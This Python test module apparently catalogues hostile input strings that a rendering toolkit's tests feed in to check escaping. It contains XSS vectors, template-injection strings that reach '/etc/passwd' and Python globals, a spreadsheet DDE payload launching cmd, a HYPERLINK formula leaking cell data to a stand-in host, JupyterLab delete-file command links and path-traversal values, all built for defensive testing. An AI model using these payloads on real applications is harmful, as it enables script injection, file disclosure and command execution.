"""What someone might write, or put in a file, to make a document or the screen do something.

RELIABILITY section 3.6, complete, and a few more. A payload that is script sets `SENTINEL_NAME`
when it runs; the others are seen by what they would leave: a request, a page that hides, a `49`
instead of `{{7*7}}`, a letter in italics. That the text can still be read as it was typed is the
detector of those.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

SENTINEL_NAME = "executed"
SENTINEL = f"window.{SENTINEL_NAME}=1"

Aim = Literal[
    "script",  # to run JavaScript
    "style",  # to hide or to restyle the page
    "request",  # to ask something of another machine, or of a file
    "command",  # to run a command of JupyterLab at one click
    "template",  # to be evaluated by Jinja, Python's format or the kit's own marks
    "typst",  # to be read as source of Typst
    "mathtext",  # to be set as a formula in a chart
    "markdown",  # to become a link, a picture or emphasis
    "formula",  # to be computed by a spreadsheet
    "path",  # to be taken for a path or a device
    "letters",  # signs without a shape, half characters, very long words
]


@dataclass(frozen=True)
class Payload:
    """One hostile text.

    Attributes
    ----------
    name : str
        What a failing test calls it.
    aim : Aim
        What it tries to become.
    text : str
        The text.
    """

    name: str
    aim: Aim
    text: str


def _of(aim: Aim, **texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(name, aim, text) for name, text in texts.items())


PAYLOADS: tuple[Payload, ...] = (
    *_of(
        "script",
        img_onerror=f"<img src=x onerror={SENTINEL}>",
        script=f"<script>{SENTINEL}</script>",
        svg_onload=f"<svg onload={SENTINEL}>",
        details_ontoggle=f"<details open ontoggle={SENTINEL}>",
        script_closed_first=f"</script><script>{SENTINEL}</script>",
        iframe_srcdoc=f'<iframe srcdoc="<script>parent.{SENTINEL_NAME}=1</script>">',
        link_javascript=f'<a href="javascript:{SENTINEL}">',
        math_style=f"<math><mtext></style><img src=x onerror={SENTINEL}>",
        quote_left=f'"\' onmouseover="{SENTINEL}',
        quote_autofocus=f'" autofocus onfocus="{SENTINEL}" x="',
        style_closed_first=f"</style><img src=x onerror={SENTINEL}>",
        title_closed_first=f"</title><script>{SENTINEL}</script>",
        textarea_closed_first=f"</textarea><img src=x onerror={SENTINEL}>",
        comment_closed_first=f"--><img src=x onerror={SENTINEL}>",
        video_source=f"<video><source onerror={SENTINEL}>",
        object_data=f'<object data="data:text/html,<script>parent.{SENTINEL_NAME}=1</script>">',
        json_break=f'"}};{SENTINEL};//',
        template_literal=f"${{{SENTINEL}}}`;{SENTINEL};`",
        comment_of_script=f"*/ {SENTINEL} /*",
        cdata=f"]]><svg onload={SENTINEL}> &lt;b&gt; &amp;",
        reveal_background=f'<section data-background-iframe="javascript:{SENTINEL}">',
    ),
    *_of(
        "style",
        style_hides="<style>body{display:none}</style>",
        style_attribute='<p style="position:fixed;inset:0;background:#fff">',
        style_link='<link rel="stylesheet" href="http://payload.invalid/x.css">',
    ),
    *_of(
        "request",
        form="<form action=//x>",
        meta_refresh='<meta http-equiv="refresh" content="0;url=http://payload.invalid/">',
        img_abroad='<img src="http://payload.invalid/x.png">',
        base="<base href=//payload.invalid/>",
        import_css="@import url(http://payload.invalid/x.css);",
    ),
    *_of(
        "command",
        command_linker='<button data-commandlinker-command="notebook:run-all-cells">',
        command_linker_args=(
            "<a data-commandlinker-command='docmanager:delete-file' data-commandlinker-args='{}'>x"
        ),
        start_mark="{button:start} {button:guide}",
    ),
    *_of(
        "template",
        jinja="{{7*7}}",
        jinja_include_encoded="{%25 include '/etc/passwd' %25}",
        jinja_include="{% include 'page.html.j2' %}",
        jinja_config="{{ self.__init__.__globals__ }}",
        python_format="{0} {panel} {answer.__class__}",
        javascript_put="{toString} {constructor} {voice}",
        percent_format="%s %(name)s %n",
        dollar_group="$& $1 \\1 \\g<0>",
    ),
    *_of(
        "typst",
        typst_include='#include "x"',
        typst_read='#read("/etc/passwd")',
        typst_inputs="#sys.inputs",
        typst_eval='#eval("1+1")',
        typst_raw="```typ #panic() ``` <label> @reference *x* _y_ $ x $ // a",
    ),
    *_of(
        "mathtext",
        mathtext_href=f"$\\href{{javascript:{SENTINEL}}}{{x}}$",
        mathtext_unknown="$\\unknown{$",
        mathtext_fraction="$\\frac{1}{2}$ et $x^2$",
        mathtext_prices="10 $ à 12 $ de l’heure",
    ),
    *_of(
        "markdown",
        markdown_link=f"[x](javascript:{SENTINEL})",
        markdown_image_of_file="![x](file:///etc/passwd)",
        markdown_image_beside="![x](../../secret.png)",
        markdown_reference="[x][1]\n\n[1]: http://payload.invalid/",
        markdown_emphasis="**gras** _italique_ `code`",
        markdown_title="# Titre\n## Titre\n- point\n> cite",
        autolink="<http://payload.invalid/> https://payload.invalid/",
    ),
    *_of(
        "formula",
        hyperlink='=HYPERLINK("http://x?"&A1)',
        dde="+cmd|' /C calc'!A0",
        minus="-2+3",
        at="@SUM(1)",
        tab_first="\t=1+1",
        return_first="\r=1+1",
        full_width="＝1+1",
    ),
    *_of(
        "path",
        parent="../../x",
        parent_windows="..\\..\\x",
        device="CON",
        device_ending="NUL.csv",
        stream="a:b",
        home="~/x",
        dots="nom. ",
    ),
    *_of(
        "letters",
        bidi="nom\u202evsc.exe",
        bidi_isolate="\u2066a\u2069\u202ab\u202c\u200f",
        accents="é" * 200,
        zero_width="zéro\u200blargeur\u2060fin\ufeff",
        combining="e\u0301" * 40,
        hebrew="שלום",
        lone_surrogate="demi \ud83d caractère",
        nul="nul\x00ici",
        terminal="\x1b]0;titre\x07\x1b[31mrouge\x1b[0m\x9b2J\x08\x08",
        noncharacters="\ufffe\uffff",
        separators="ligne\u2028ligne\u2029ligne\x85ligne",
        emoji="emoji 🙂👩‍🔧",
        chinese="平等",
        tags="a\U000e0041\U000e0042b",
        spaces="  deux  espaces\u00a0 ",
    ),
)

BULK = "\n".join(payload.text for payload in PAYLOADS)
"""All of them in one text: an answer that holds every payload."""

BULK_LINE = " ".join(" ".join(payload.text.split()) for payload in PAYLOADS)
"""All of them on one line: a name, a title, a label."""


def texts_of(*aims: Aim) -> tuple[str, ...]:
    """Return the texts of some aims, of all of them when none is named."""
    return tuple(payload.text for payload in PAYLOADS if not aims or payload.aim in aims)
